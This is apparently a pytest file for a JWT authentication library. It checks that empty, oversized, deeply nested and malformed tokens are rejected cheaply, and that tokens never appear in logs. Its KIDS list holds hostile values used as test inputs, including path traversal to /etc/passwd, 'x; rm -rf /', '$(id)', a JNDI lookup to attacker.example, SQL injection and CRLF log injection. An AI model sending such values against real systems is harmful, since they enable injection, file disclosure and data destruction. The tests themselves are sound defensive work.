"""Hostile bytes: nothing crashes, nothing is slow, no key is asked for, and nothing leaks into a log."""

from __future__ import annotations

import builtins
import io
import json
import logging
import os
import sys
import tracemalloc
from types import FrameType
from typing import Any

import jwt
import pytest
from jwt.algorithms import RSAAlgorithm

from authguard import AuthRequest, Credentials, Moment, Rejected, VerificationKey
from authguard.wire import jws
from tests.support.clock import NOW
from tests.support.coroutines import run_without_waiting
from tests.support.guards import GuardedApp
from tests.support.schemes.bearer import CountingKeySource, bearer, issuer
from tests.support.tokens import b64url, claims, mint, raw_token, rsa_key

MEGABYTE = 1 << 20


def counted() -> tuple[GuardedApp, CountingKeySource]:
    """An app whose key source counts its calls."""
    source = CountingKeySource(VerificationKey("RS256", None, rsa_key().public_key()))
    return GuardedApp(bearer(issuer(source))), source


# --- nothing at all ---------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "field",
    [b"", b" ", b"Bearer", b"Bearer ", b"bearer  ", b"Bearer\t", b"Bearer \t ", b" " * 8192, b"Bearer " + b" " * 8192],
)
async def test_an_empty_token_reaches_no_key_source(field: bytes) -> None:
    """sanic-jwt #143, Flask-HTTPAuth #62 (CVE-2026-34531): an empty token is a 401, and no key source is asked."""
    app, source = counted()

    answer = await app.get(field)

    assert (answer.status, answer.reason) == (401, "credentials.malformed")
    assert any(name == b"www-authenticate" for name, _ in answer.headers)
    assert source.calls == []


@pytest.mark.parametrize("token", [b".", b"..", b"a.b.c", b"null", b"undefined", b"e30.e30.", b"e30.e30.e30", b"===="])
async def test_a_value_that_is_no_token_reaches_no_key_source(token: bytes) -> None:
    """A value that is hardly more than empty is a 401, and no key source is asked."""
    app, source = counted()

    answer = await app.get_with_token(token)

    assert answer.status == 401
    assert source.calls == []


@pytest.mark.rfc("limits-4")
async def test_an_unknown_issuer_reaches_no_key_source() -> None:
    """The key source is asked only for tokens of its issuer, once each, so invented tokens cause no work."""
    app, source = counted()

    unknown = await app.get_with_token(mint(iss="https://attacker.example"))
    known = await app.get_with_token(mint())

    assert (unknown.reason, known.status) == ("token.issuer_unknown", 200)
    assert source.calls == [(None, "RS256")]


# --- too much ---------------------------------------------------------------------------------------------------------


def _token_of(octets: int) -> str:
    """A valid token of exactly this length, filled up with whitespace around the JSON."""
    for header in (b'{"alg":"RS256"}', b'{"alg":"RS256"} ', b'{"alg":"RS256"}  '):
        left = octets - len(b64url(header)) - len(b64url(bytes(256))) - 2
        if left % 4 != 1:  # Base64 never has that length
            payload = json.dumps(claims()).encode()
            return raw_token(header, payload.ljust(left * 3 // 4), rsa_key())
    raise AssertionError


@pytest.mark.rfc("limits-1")
async def test_a_token_is_at_most_8_kib() -> None:
    """A token of 8 KiB is accepted. One byte more is rejected, and its length is recorded."""
    app = GuardedApp()

    full, longer = await app.get_with_token(_token_of(8192)), await app.get_with_token(_token_of(8193))

    assert full.status == 200
    assert (longer.status, longer.reason) == (401, "token.too_long")
    assert longer.record.facts == {"octets": 8193, "limit": 8192}


def _calls(field: bytes) -> int:
    """The number of authguard's function calls that denying this field takes."""
    app, calls = GuardedApp(log=False), 0

    def count(frame: FrameType, event: str, argument: object) -> None:
        nonlocal calls
        calls += event == "call" and "authguard" in frame.f_code.co_filename

    run_without_waiting(app.get(field))
    sys.setprofile(count)
    try:
        run_without_waiting(app.get(field))
    finally:
        sys.setprofile(None)
    return calls


@pytest.mark.parametrize("filling", [b".", b"a", b"=", b" ", b",", b'"', b"\\", b"\xff", b"a.", b"a=b,", b"[", b"{"])
def test_a_megabyte_is_refused_before_any_work(filling: bytes, monkeypatch: pytest.MonkeyPatch) -> None:
    """CVE-2025-30204, CVE-2026-48525: a field of a megabyte costs what one of 17 KiB costs, and is not parsed."""

    def unreached(*_: object) -> Any:
        raise AssertionError

    monkeypatch.setattr(jws, "parse", unreached)
    fields = [(b"Bearer " + filling * size)[:size] for size in (17 * 1024, MEGABYTE)]

    answers = [run_without_waiting(GuardedApp().get(field)) for field in fields]

    assert {(answer.status, answer.reason) for answer in answers} == {(400, "header.too_long")}
    assert _calls(fields[0]) == _calls(fields[1])


def test_a_megabyte_of_dots_takes_no_memory() -> None:
    """The scheme checks the length itself, wherever its carrier found the token, and copies nothing."""
    request = AuthRequest({"type": "http", "headers": []}, path="/", moment=Moment(NOW, 60))
    scheme, credentials = bearer(), Credentials("bearer", b"." * MEGABYTE)
    run_without_waiting(scheme.authenticate(request, credentials))

    tracemalloc.start()
    try:
        outcome = run_without_waiting(scheme.authenticate(request, credentials))
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()

    assert isinstance(outcome, Rejected)
    assert (outcome.reason.code, dict(outcome.facts)) == ("token.too_long", {"octets": MEGABYTE, "limit": 8192})
    assert peak < 64 * 1024


@pytest.mark.rfc("limits-2")
@pytest.mark.parametrize("opening", [b"[", b'{"a":', b'[{"a":'])
async def test_deep_nesting_is_refused_without_recursion(opening: bytes) -> None:
    """A payload of brackets reaches the length limit before it reaches the parser."""
    payload = b'{"x":' + opening * (5000 // len(opening))

    answer = await GuardedApp().get_with_token(raw_token({"alg": "RS256"}, payload, rsa_key()))

    assert (answer.reason, answer.record.facts["problem"]) == ("token.malformed", "nested too deeply")


# --- what a token says ends up nowhere --------------------------------------------------------------------------------

KIDS = [
    "../../../../etc/passwd",
    "/dev/null",
    "file:///etc/passwd",
    "https://attacker.example/key",
    "' UNION SELECT 'secret' --",
    "x; rm -rf /",
    "$(id)",
    "`id`",
    "${jndi:ldap://attacker.example/a}",
    "{0.__class__}%s%n%(message)s",
    "k" * 4000,
    "a\r\nINFO granted: GET /admin 200 alice",
    "\x1b[2J\x1b[31mred",
    "\u2028\u2029\x85\x00\x7f",
    "\u202egnp.exe",
]


@pytest.fixture
def files_opened(monkeypatch: pytest.MonkeyPatch) -> list[object]:
    """The files that are opened while a test runs."""
    opened: list[object] = []

    def noting(real: Any) -> Any:
        def opens(path: Any, *args: Any, **options: Any) -> Any:
            opened.append(path)
            return real(path, *args, **options)

        return opens

    monkeypatch.setattr(builtins, "open", noting(open))
    monkeypatch.setattr(io, "open", noting(open))
    monkeypatch.setattr(os, "open", noting(os.open))
    return opened


@pytest.mark.rfc("8725-5")
@pytest.mark.parametrize("kid", KIDS)
async def test_a_kid_is_a_name_and_nothing_else(
    kid: str, files_opened: list[object], caplog: pytest.LogCaptureFixture
) -> None:
    """RFC 8725 section 3.10: a kid is compared for equality, opens no file, and is escaped and clipped in the log."""
    source = CountingKeySource(VerificationKey("RS256", "2026-01", rsa_key().public_key()))
    app = GuardedApp(bearer(issuer(source)))

    answer = await app.get_with_token(mint(headers={"kid": kid}))

    assert (answer.status, answer.reason) == (401, "key.unknown")
    assert source.calls == [(kid, "RS256")]
    assert files_opened == []
    (line,) = (record for record in caplog.records if record.name == "authguard")
    for text in (line.getMessage(), vars(line)["authguard.kid"]):
        assert text.isprintable()
        assert len(text) < 300


@pytest.mark.rfc("6750-9")
async def test_no_part_of_a_token_is_shown(caplog: pytest.LogCaptureFixture) -> None:
    """Neither the log nor the response shows a token: it is named by eight digits of its hash."""
    app = GuardedApp()
    caplog.set_level(logging.DEBUG)
    bad = [mint(exp=NOW - 100), mint(aud="x"), mint(key=rsa_key(which=1)), mint()[:-4], mint().replace(".", "..", 1)]

    for token in [mint(), *bad]:
        answer = await app.get_with_token(token)
        told = caplog.text + repr([vars(record) for record in caplog.records]) + repr(answer)

        for part in token.split("."):
            assert not part or part not in told
            assert not part or part[:32] not in told


def test_jwt_decode_is_not_called(monkeypatch: pytest.MonkeyPatch) -> None:
    """PyJWT's algorithm objects verify signatures, but PyJWT parses neither tokens nor claims."""

    def unreached(*_: object, **__: object) -> Any:
        raise AssertionError

    token = mint()
    for owner in (jwt.PyJWT, jwt.PyJWS):
        for name in ("decode", "decode_complete"):
            monkeypatch.setattr(owner, name, unreached)
    monkeypatch.setattr(RSAAlgorithm, "prepare_key", unreached)

    assert run_without_waiting(GuardedApp().get_with_token(token)).status == 200
